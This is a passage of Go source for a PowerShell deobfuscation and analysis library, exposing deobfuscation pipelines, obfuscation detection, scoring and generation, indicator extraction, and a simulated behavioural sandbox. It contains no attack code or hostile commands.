	// to a full re-render and reparse.
	SplicesApplied  int
	SpliceFallbacks int
}

// PassStat is the aggregated trace of one pipeline pass across a
// deobfuscation run (a fixpoint pass runs once per iteration; its
// stats accumulate).
type PassStat struct {
	// Pass is the pass name: "token", "ast", "rename" or "reformat".
	Pass string
	// Runs is how many times the pass executed.
	Runs int
	// Duration is total wall-clock time inside the pass, including
	// nested payload layers unwrapped from within it.
	Duration time.Duration
	// BytesIn is the script size when the pass first ran; BytesOut the
	// size after its latest run.
	BytesIn  int
	BytesOut int
	// Reverts counts candidate rewrites that failed the per-splice
	// syntax check and were rolled back inside this pass.
	Reverts int
	// CacheHits / CacheMisses are the pass's parse-cache requests: a
	// miss is a real tokenize/parse, a hit was answered from memory.
	CacheHits   int64
	CacheMisses int64
	// EvalHits / EvalMisses / EvalSkips are the pass's evaluation-cache
	// outcomes: a hit replayed a memoized pure evaluation without
	// constructing an interpreter, a miss evaluated and cached, a skip
	// evaluated but was uncacheable (impure piece or failed run).
	EvalHits   int64
	EvalMisses int64
	EvalSkips  int64
}

// Result is the outcome of a deobfuscation.
type Result struct {
	// Script is the deobfuscated script.
	Script string
	// Lang is the canonical name of the language frontend that handled
	// the run (the explicit Options.Lang, or the auto-detected guess).
	Lang string
	// Layers holds the intermediate script after each fixpoint round.
	Layers []string
	// Stats summarizes the work performed.
	Stats Stats
	// PassTrace is the per-pass execution trace in first-run order.
	PassTrace []PassStat
}

// ErrInvalidSyntax reports that the input does not parse under the
// selected language frontend.
var ErrInvalidSyntax = core.ErrInvalidSyntax

// ErrBadLang reports an unknown Options.Lang / BatchInput.Lang value.
// HTTP embedders map it to 422.
var ErrBadLang = core.ErrBadLang

// Structured error taxonomy for execution-envelope violations. Classify
// failures with errors.Is; ErrorName maps an error back to its taxonomy
// name for logs and CLI output.
var (
	// ErrDeadline reports that the context deadline expired mid-run.
	ErrDeadline = core.ErrDeadline
	// ErrCanceled reports that the context was canceled mid-run.
	ErrCanceled = core.ErrCanceled
	// ErrMemBudget reports that an interpreter memory budget was
	// exhausted.
	ErrMemBudget = core.ErrMemBudget
	// ErrParseDepth reports input nesting beyond the parser's limit.
	ErrParseDepth = core.ErrParseDepth
	// ErrOutputBudget reports that the total unwrapped-layer output
	// exceeded Options.MaxOutputBytes.
	ErrOutputBudget = core.ErrOutputBudget
	// ErrPanic reports an internal panic converted to an error at an
	// isolation barrier.
	ErrPanic = core.ErrPanic
)

// ErrorName returns the taxonomy name of an envelope error
// ("ErrDeadline", "ErrCanceled", "ErrMemBudget", "ErrParseDepth",
// "ErrOutputBudget", "ErrPanic"), or "" for errors outside the
// taxonomy.
func ErrorName(err error) string {
	return limits.Name(err)
}

// Deobfuscate runs the full three-phase pipeline on a script. A nil
// opts selects the defaults. It is a thin wrapper over
// DeobfuscateContext with a background context (no deadline).
func Deobfuscate(script string, opts *Options) (*Result, error) {
	return DeobfuscateContext(context.Background(), script, opts)
}

// DeobfuscateContext runs the pipeline under the execution envelope
// derived from ctx and opts: the deadline and cancelation of ctx are
// honored inside every interpreter run and between phases, each
// recoverable piece is bounded by the step and memory budgets, and the
// total output across unwrapped layers is capped. On an envelope
// violation it returns the partial result (Stats.TimedOut set) together
// with the taxonomy error — both return values are non-nil.
func DeobfuscateContext(ctx context.Context, script string, opts *Options) (*Result, error) {
	res, err := core.New(opts.toCore()).DeobfuscateContext(ctx, script)
	return toResult(res), err
}

// toResult converts a core result to the public shape. Nil in, nil out.
func toResult(res *core.Result) *Result {
	if res == nil {
		return nil
	}
	trace := make([]PassStat, len(res.PassTrace))
	for i, p := range res.PassTrace {
		trace[i] = PassStat{
			Pass:        p.Pass,
			Runs:        p.Runs,
			Duration:    p.Duration,
			BytesIn:     p.BytesIn,
			BytesOut:    p.BytesOut,
			Reverts:     p.Reverts,
			CacheHits:   p.CacheHits,
			CacheMisses: p.CacheMisses,
			EvalHits:    p.EvalHits,
			EvalMisses:  p.EvalMisses,
			EvalSkips:   p.EvalSkips,
		}
	}
	return &Result{
		Script:    res.Script,
		Lang:      res.Lang,
		Layers:    append([]string(nil), res.Layers...),
		PassTrace: trace,
		Stats: Stats{
			TokensNormalized:   res.Stats.TokensNormalized,
			PiecesAttempted:    res.Stats.PiecesAttempted,
			PiecesRecovered:    res.Stats.PiecesRecovered,
			VariablesTraced:    res.Stats.VariablesTraced,
			VariablesInlined:   res.Stats.VariablesInlined,
			LayersUnwrapped:    res.Stats.LayersUnwrapped,
			IdentifiersRenamed: res.Stats.IdentifiersRenamed,
			Iterations:         res.Stats.Iterations,
			Duration:           res.Stats.Duration,
			PiecesTimedOut:     res.Stats.PiecesTimedOut,
			PiecesPanicked:     res.Stats.PiecesPanicked,
			PiecesOverBudget:   res.Stats.PiecesOverBudget,
			TimedOut:           res.Stats.TimedOut,
			EvalCacheHits:      res.Stats.EvalCacheHits,
			EvalCacheMisses:    res.Stats.EvalCacheMisses,
			EvalCacheSkips:     res.Stats.EvalCacheSkips,
			PiecesParallel:     res.Stats.PiecesParallel,
			SplicesApplied:     res.Stats.SplicesApplied,
			SpliceFallbacks:    res.Stats.SpliceFallbacks,
		},
	}
}

// BatchInput is one script submitted to DeobfuscateBatch.
type BatchInput struct {
	// Name labels the script in results (file path, sample ID, ...).
	Name string
	// Script is the source text.
	Script string
	// Lang selects this script's language frontend, overriding
	// Options.Lang; empty falls back to Options.Lang, then to
	// auto-detection. A batch can mix languages freely.
	Lang string
}

// BatchResult is the outcome of one script in a batch run.
type BatchResult struct {
	// Name echoes the input's name; Index is its position in the input
	// slice (results come back in input order).
	Name  string
	Index int
	// Result is the per-script outcome; like DeobfuscateContext it is
	// non-nil alongside Err when an envelope violation salvaged partial
	// progress.
	Result *Result
	// Err is the per-script error; classify with errors.Is / ErrorName.
	Err error
}

// DeobfuscateBatch deobfuscates many scripts concurrently on a bounded
// worker pool (opts.Jobs workers, default GOMAXPROCS). Each script runs
// under its own execution envelope — plus its own deadline when
// opts.ScriptTimeout is set — so one hostile input cannot starve the
// rest, while all workers share one bounded parse cache so identical
// layers across scripts parse once. Results are returned in input
// order. Canceling ctx stops the pool promptly; unstarted scripts
// report ErrCanceled.
func DeobfuscateBatch(ctx context.Context, inputs []BatchInput, opts *Options) []BatchResult {
	coreIn := make([]core.BatchInput, len(inputs))
	for i, in := range inputs {
		coreIn[i] = core.BatchInput{Name: in.Name, Script: in.Script, Lang: in.Lang}
	}
	coreOut := core.New(opts.toCore()).DeobfuscateBatch(ctx, coreIn)
	out := make([]BatchResult, len(coreOut))
	for i, r := range coreOut {
		out[i] = BatchResult{Name: r.Name, Index: r.Index, Result: toResult(r.Result), Err: r.Err}
	}
	return out
}

// ValidSyntax reports whether the script parses as PowerShell. The
// check goes through a process-wide bounded parse cache, so repeated
// validation of the same scripts (corpus preprocessing, dataset
// funnels) parses once.
func ValidSyntax(script string) bool {
	ok, err := ValidSyntaxLang(script, "powershell")
	return err == nil && ok
}

// ValidSyntaxLang is ValidSyntax for any registered language. Unknown
// language names fail with ErrBadLang.
func ValidSyntaxLang(script, lang string) (bool, error) {
	fe, err := frontend.Get(lang)
	if err != nil {
		return false, err
	}
	return pipeline.DefaultCache().Valid(fe, script), nil
}

// Languages lists the registered language frontends (canonical names,
// sorted) — the valid values for Options.Lang.
func Languages() []string {
	return frontend.Names()
}

// DetectLanguage guesses a script's language with cheap lexical
// heuristics, returning a canonical frontend name. It never fails:
// with no discriminating signal it returns "powershell".
func DetectLanguage(script string) string {
	return frontend.Detect(script)
}

// Detection reports one identified obfuscation technique.
type Detection struct {
	// Technique is the technique name (Table II rows, e.g. "ticking").
	Technique string
	// Level is the paper's obfuscation level (1, 2 or 3).
	Level int
	// Count is the number of occurrences observed.
	Count int
}

// AnalyzeObfuscation detects known obfuscation techniques (paper
// §IV-B2). The returned detections are sorted by level then name.
func AnalyzeObfuscation(script string) []Detection {
	rep := score.Analyze(script)
	out := make([]Detection, 0, len(rep.Detections))
	for _, d := range rep.Detections {
		out = append(out, Detection{Technique: d.Technique, Level: d.Level, Count: d.Count})
	}
	return out
}

// ObfuscationScore quantifies a script's obfuscation: the sum of levels
// over distinct detected techniques.
func ObfuscationScore(script string) int {
	return score.Score(script)
}

// Obfuscate applies one obfuscation technique (see Techniques) with a
// deterministic seed. It fails rather than emit invalid syntax.
func Obfuscate(script, technique string, seed int64) (string, error) {
	o := obfuscate.New(seed)
	out, err := o.Apply(script, obfuscate.Technique(technique))
	if err != nil {
		return "", fmt.Errorf("invokedeob: %w", err)
	}
	return out, nil
}

// ObfuscateStack applies several techniques in order, skipping any that
// do not apply to the script, and returns the result with the applied
// technique names.
func ObfuscateStack(script string, techniques []string, seed int64) (string, []string, error) {
	ts := make([]obfuscate.Technique, len(techniques))
	for i, t := range techniques {
		ts[i] = obfuscate.Technique(t)
	}
	out, applied, err := obfuscate.New(seed).ApplyStack(script, ts)
	if err != nil {
		return "", nil, fmt.Errorf("invokedeob: %w", err)
	}
	names := make([]string, len(applied))
	for i, t := range applied {
		names[i] = string(t)
	}
	return out, names, nil
}

// Techniques lists the implemented obfuscation techniques in Table II
// order.
func Techniques() []string {
	all := obfuscate.All()
	out := make([]string, len(all))
	for i, t := range all {
		out[i] = string(t)
	}
	return out
}

// TechniqueLevel returns the paper's level (1, 2 or 3) for a technique
// name, or 0 if unknown.
func TechniqueLevel(technique string) int {
	for _, t := range obfuscate.All() {
		if string(t) == technique {
			return obfuscate.Level(t)
		}
	}
	return 0
}

// ObfuscateProfile draws one technique stack from a named obfuscation
// profile ("safe", "light", "balanced", "heavy" or "paranoid") at the
// given wrapper depth and applies it. It returns the obfuscated script
// and the names of the techniques that took effect; the result is
// deterministic for a given (profile, seed, depth).
func ObfuscateProfile(script, profile string, depth int, seed int64) (string, []string, error) {
	p, ok := obfuscate.GetProfile(profile)
	if !ok {
		return "", nil, fmt.Errorf("invokedeob: unknown profile %q (have %v)", profile, obfuscate.ProfileNames())
	}
	out, applied, _, err := obfuscate.New(seed).ApplyProfile(script, p, depth)
	if err != nil {
		return "", nil, fmt.Errorf("invokedeob: %w", err)
	}
	names := make([]string, len(applied))
	for i, t := range applied {
		names[i] = string(t)
	}
	return out, names, nil
}

// ObfuscationProfile describes one built-in obfuscation profile.
type ObfuscationProfile struct {
	Name        string
	Description string
	MaxDepth    int
}

// ObfuscationProfiles lists the built-in profiles in aggressiveness
// order.
func ObfuscationProfiles() []ObfuscationProfile {
	ps := obfuscate.Profiles()
	out := make([]ObfuscationProfile, len(ps))
	for i, p := range ps {
		out[i] = ObfuscationProfile{Name: p.Name, Description: p.Description, MaxDepth: p.MaxDepth}
	}
	return out
}

// IOCs is the key information extracted from a script (paper Fig. 5).
type IOCs struct {
	Ps1Files           []string
	PowerShellCommands []string
	URLs               []string
	IPs                []string
}

// Count returns the total number of extracted items.
func (i *IOCs) Count() int {
	return len(i.Ps1Files) + len(i.PowerShellCommands) + len(i.URLs) + len(i.IPs)
}

// ExtractIOCs pulls the paper's four kinds of key information out of a
// script: .ps1 paths, powershell command lines, URLs and IPs.
func ExtractIOCs(script string) *IOCs {
	info := keyinfo.Extract(script)
	return &IOCs{
		Ps1Files:           info.Ps1,
		PowerShellCommands: info.PowerShell,
		URLs:               info.URLs,
		IPs:                info.IPs,
	}
}

// Event is one behaviour recorded by the sandbox.
type Event struct {
	// Kind is the behaviour class: dns-query, tcp-connect, http-get,
	// download-file, process-start, file-write, file-delete, sleep.
	Kind string
	// Detail is the behaviour target.
	Detail string
}

// SandboxReport is the outcome of executing a script in the bounded
// behavioural sandbox.
type SandboxReport struct {
	// Events are the recorded behaviours in order.
	Events []Event
	// Console is the captured Write-Host output.
	Console string
	// Err records an interpretation failure, if any (behaviour before
	// the failure is still reported).
	Err error
}

// NetworkEvents returns the deduplicated DNS/TCP event set, the basis
// of the paper's behavioural-consistency comparison.
func (r *SandboxReport) NetworkEvents() []string {
	b := make(sandbox.Behavior, len(r.Events))
	for i, e := range r.Events {
		b[i] = sandbox.Event{Kind: sandbox.EventKind(e.Kind), Detail: e.Detail}
	}
	return b.NetworkSet()
}

// RunSandbox executes a script with simulated side effects and records
// its behaviour.
func RunSandbox(script string) *SandboxReport {
	return RunSandboxContext(context.Background(), script)
}

// RunSandboxContext executes a script in the sandbox under ctx; the
// interpreter stops with a taxonomy error (reported in SandboxReport.Err)
// when the deadline expires or the context is canceled. Behaviour
// recorded before the cutoff is still reported.
func RunSandboxContext(ctx context.Context, script string) *SandboxReport {
	res := sandbox.RunContext(ctx, script, sandbox.Options{})
	rep := &SandboxReport{Console: res.Console, Err: res.Err}
	for _, e := range res.Behavior {
		rep.Events = append(rep.Events, Event{Kind: string(e.Kind), Detail: e.Detail})
	}
	return rep
}

// BehaviorConsistent reports whether two scripts produce identical
// network behaviour in the sandbox — the paper's semantic-consistency
// proxy (Table IV).
func BehaviorConsistent(scriptA, scriptB string) bool {
	a := sandbox.Run(scriptA, sandbox.Options{})
	b := sandbox.Run(scriptB, sandbox.Options{})
	return sandbox.Consistent(a.Behavior, b.Behavior)
}
